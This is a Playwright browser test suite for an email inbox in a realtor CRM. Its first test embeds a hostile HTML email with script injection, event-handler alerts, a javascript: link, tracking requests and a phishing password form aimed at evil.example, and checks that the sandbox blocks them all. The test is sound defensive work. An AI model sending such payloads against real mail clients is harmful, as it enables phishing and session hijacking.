"""Incoming mail in the browser: by keyboard, with a thumb, and a mail that attacks whoever opens it."""

import pytest
from playwright.sync_api import Dialog, Page, Route, expect

from clients.models import Client
from tests.browser import looks
from tests.inbound.mails import answered, make_mail, with_raw

pytestmark = pytest.mark.django_db(transaction=True)

ATTACK = """<html><head>
<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/style.css"><link rel="preconnect" href="https://evil.example">
<base href="https://evil.example/" target="_top">
<style>@import url(https://evil.example/import.css);
body { background: url(https://evil.example/background.png) }</style>
<script>parent.document.title = "owned"; alert(1)</script></head>
<body onload="alert(2)"><p>Words of the mail</p>
<img src="https://evil.example/pixel.gif" onerror="alert(3)">
<svg onload="alert(4)"><image href="https://evil.example/svg.png"/></svg>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
<iframe srcdoc="<script>alert(5)</script>"></iframe>
<video autoplay src="https://evil.example/video.mp4"></video>
<form action="https://evil.example/form"><input name="password"><button id="send">Log in</button></form>
<a id="top" href="https://evil.example/top" target="_top">Top</a>
<a id="script" href="javascript:alert(6)">Script</a>
</body></html>"""


@pytest.fixture
def ana_page(page: Page, ana_browser, office, live_server) -> Page:
    cookie = ana_browser.cookies["realtoros_session"].value
    page.context.add_cookies([{"name": "realtoros_session", "value": cookie, "url": live_server.url}])
    return page


def test_a_mail_that_attacks_does_nothing(ana_page: Page, make_client, live_server) -> None:
    mail = with_raw(make_mail(make_client()), ATTACK)
    asked: list[str] = []
    alerts: list[str] = []
    # A page of its own: the console says what the policy stopped. Only what got past it comes to the route.
    ana_page = ana_page.context.new_page()

    def refuse(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    def close(dialog: Dialog) -> None:
        alerts.append(dialog.message)
        dialog.dismiss()

    ana_page.route("https://evil.example/**", refuse)
    ana_page.on("dialog", close)
    ana_page.goto(f"{live_server.url}/inbound/{mail.pk}/")
    frame = ana_page.frame_locator("iframe.mail-frame")
    expect(frame.get_by_text("Words of the mail")).to_be_visible()
    frame.locator("#send").click()
    frame.locator("#script").click()
    expect(ana_page).to_have_title("Re: Your visit · RealtorOS")
    assert not alerts and not asked
    # By itself in a window it is as harmless.
    ana_page.goto(f"{live_server.url}/inbound/{mail.pk}/mail/")
    expect(ana_page.get_by_text("Words of the mail")).to_be_visible()
    assert not alerts and not asked


def test_by_keyboard_someone_who_is_not_on_file_becomes_a_client(ana_page: Page, ana, live_server) -> None:
    mail = make_mail(to_email=ana.email, text="Is the house still there?")
    ana_page.goto(live_server.url)
    expect(ana_page.get_by_text("“Is the house still there?”")).to_be_visible()
    ana_page.get_by_role("link", name="Add as client").focus()
    ana_page.keyboard.press("Enter")
    dialog = ana_page.get_by_role("dialog", name="New client")
    expect(dialog.get_by_label("Name", exact=True)).to_have_value("Sam Doe")
    expect(dialog.get_by_label("Email", exact=True)).to_have_value("sam.doe@work.example")
    ana_page.keyboard.press("Control+Enter")
    ana_page.wait_for_url("**/clients/*/")
    expect(ana_page.locator("li.mail")).to_contain_text("Is the house still there?")
    mail.refresh_from_db()
    assert mail.client == Client.objects.get()


def test_with_a_thumb_a_mail_finds_its_client(ana_page: Page, ana, make_client, live_server) -> None:
    make_mail(to_email=ana.email)
    client = make_client()
    ana_page.set_viewport_size({"width": 390, "height": 844})
    ana_page.goto(live_server.url)
    ana_page.get_by_role("button", name="More for the mail from Sam Doe").click()
    ana_page.get_by_role("link", name="It is one of my clients…").click()
    dialog = ana_page.get_by_role("dialog")
    dialog.get_by_label("Client", exact=True).fill("whit")
    dialog.get_by_role("radio").check()
    dialog.get_by_role("button", name="Add to timeline").click()
    ana_page.wait_for_url(f"**/clients/{client.pk}/")
    expect(ana_page.locator("li.mail")).to_contain_text("Sam Doe answered by email")


def test_dismissed_with_undo(ana_page: Page, ana, live_server) -> None:
    make_mail(to_email=ana.email)
    ana_page.goto(live_server.url)
    ana_page.get_by_role("button", name="More for the mail from Sam Doe").click()
    ana_page.get_by_role("button", name="Dismiss").click()
    expect(ana_page.get_by_text("Someone answered who is not on file")).to_have_count(0)
    ana_page.get_by_role("button", name="Undo").click()
    expect(ana_page.get_by_text("Someone answered who is not on file")).to_be_visible()


def test_not_an_answer_leaves_todays_row_with_undo(ana_page: Page, make_client, live_server) -> None:
    answered(make_client())
    ana_page.goto(live_server.url)
    row = ana_page.locator("#day li.row")
    row.get_by_role("button", name="More for Jonah Whitlock").click()
    ana_page.get_by_role("button", name="Not an answer").click()
    struck = ana_page.locator("#day li.struck")
    expect(struck).to_contain_text("Not an answer: Jonah Whitlock")
    struck.get_by_role("button", name="Undo").click()
    expect(ana_page.locator("#day li.row")).to_contain_text("Answered by email")


@pytest.mark.browser_context_args(bypass_csp=True)  # axe writes inline styles
def test_is_readable_for_everybody(ana_page: Page, make_client, live_server) -> None:
    client = make_client()
    mail = with_raw(answered(client, from_email="new@work.example"), "<p>Hello</p>")
    ana_page.goto(f"{live_server.url}/inbound/{mail.pk}/")
    assert not looks.faults_in_both_schemes(ana_page)
    ana_page.goto(f"{live_server.url}/clients/{client.pk}/")
    assert not looks.faults_in_both_schemes(ana_page, context="#shown")
